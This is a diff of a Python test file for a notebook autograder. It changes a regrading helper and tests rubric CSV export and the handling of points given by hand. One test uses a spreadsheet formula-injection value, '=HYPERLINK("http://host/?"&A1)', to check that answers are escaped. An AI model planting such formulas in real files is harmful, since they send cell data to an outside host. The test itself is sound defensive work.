@@ -3,22 +3,23 @@
 from __future__ import annotations
 
 import csv
-import json
 import re
 from pathlib import Path
 
+import nbformat
 import pytest
 
 from autograder.__main__ import main
+from autograder.configuration import load_configuration
 from autograder.course import Course
 from autograder.errors import CourseError
+from autograder.examine import Examined
 from autograder.filled_in import number
-from autograder.grade import grade
-from autograder.manual_grading import LONGEST_ANSWER, shortened, version_of, write_rubric
+from autograder.gradebook_writer import GradebookWriter
+from autograder.manual_grading import LONGEST_ANSWER, graded_notebook, shortened, version_of, write_rubric
+from autograder.records import read_record
 from autograder.rubric import read_rubric
 from autograder.scores import Score, Status, read_score
-from tests.grading.course_writer import submission
-from tests.grading.example_class import HONEST
 
 Rows = list[dict[str, str]]
 
@@ -44,11 +45,15 @@ def score_of(course: Course, student: str) -> Score:
         return read_score(course, gradebook, student, "classwork")
 
 
-def hand_in_again(course: Course, student: str, text: str) -> None:
-    """Replace a submission by one with another written answer, and grade it."""
-    notebook = submission(course.release_notebook("classwork"), HONEST, written=text)
-    course.submitted(student, "classwork").write_text(json.dumps(notebook))
-    grade(course, "classwork", [student], progress=False)
+def graded_again(course: Course, student: str, text: str | None = None) -> None:
+    """Write a submission's results again, as grading does, with another written answer if one is given."""
+    record, notebook = read_record(course, student, "classwork"), graded_notebook(course, student, "classwork")
+    assert record is not None and notebook is not None
+    for cell in notebook.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "written-why" and text is not None:
+            cell.source = text
+    with GradebookWriter(course, load_configuration(course), "classwork") as writer:
+        writer.write(Examined(nbformat.writes(notebook).encode(), record))
 
 
 def row_of(rows: Rows, student: str) -> dict[str, str]:
@@ -66,7 +71,7 @@ def test_the_rubric_has_every_written_answer_with_its_text_and_points_so_far(own
 
 
 def test_an_answer_is_never_run_as_a_formula_and_fits_a_cell(own_class: Course, tmp_path: Path) -> None:
-    hand_in_again(own_class, "ada", '=HYPERLINK("http://host/?"&A1)')
+    graded_again(own_class, "ada", '=HYPERLINK("http://host/?"&A1)')
     assert row_of(written(own_class, tmp_path / "rubric.csv"), "ada")["answer"].startswith("'=HYPERLINK")
     assert len(shortened("é" * 50_000)) < 32_767 and shortened("é" * LONGEST_ANSWER) == "é" * LONGEST_ANSWER
 
@@ -135,7 +140,7 @@ def test_one_row_that_cannot_be_right_keeps_all_out_and_every_such_row_is_listed
 
 def test_lines_are_counted_as_an_editor_does_though_answers_have_several(own_class: Course, tmp_path: Path) -> None:
     path = tmp_path / "rubric.csv"
-    hand_in_again(own_class, "ada", "One.\n\nTwo.\nThree.")
+    graded_again(own_class, "ada", "One.\n\nTwo.\nThree.")
     rows = written(own_class, path)
     row_of(rows, "ben").update(points="9")
     save(rows, path)
@@ -151,7 +156,7 @@ def test_points_for_a_text_that_has_changed_since_are_refused(own_class: Course,
     rows = written(own_class, path)
     row_of(rows, "ada").update(points="3")
     save(rows, path)
-    hand_in_again(own_class, "ada", "Because three.")
+    graded_again(own_class, "ada", "Because three.")
     with pytest.raises(CourseError, match="the answer to why has changed since the rubric was written"):
         read_rubric(own_class, "classwork", path)
 
@@ -178,15 +183,14 @@ def test_grading_again_keeps_points_given_by_hand_until_the_answer_changes(own_c
     row_of(rows, "ada").update(points="2", comment="good")
     save(rows, path)
     read_rubric(own_class, "classwork", path)
-    grade(own_class, "classwork", ["ada"], force=True, progress=False)
+    graded_again(own_class, "ada")
     same = score_of(own_class, "ada")
     assert (same.status, same.earned, same.problem) == (Status.GRADED, 8, "")
     for _ in range(2):  # graded once more, it still waits
-        hand_in_again(own_class, "ada", "Because of something else.")
+        graded_again(own_class, "ada", "Because of something else.")
         changed = score_of(own_class, "ada")
         assert (changed.status, changed.earned, changed.pending) == (Status.PENDING, 8, 3)
         assert "the answer of written-why changed since it was graded by hand" in changed.problem
-        grade(own_class, "classwork", ["ada"], force=True, progress=False)
     rows = written(own_class, path)
     assert row_of(rows, "ada")["points"] == "", "points for another text are not offered as points for this one"
     row_of(rows, "ada").update(points="2")
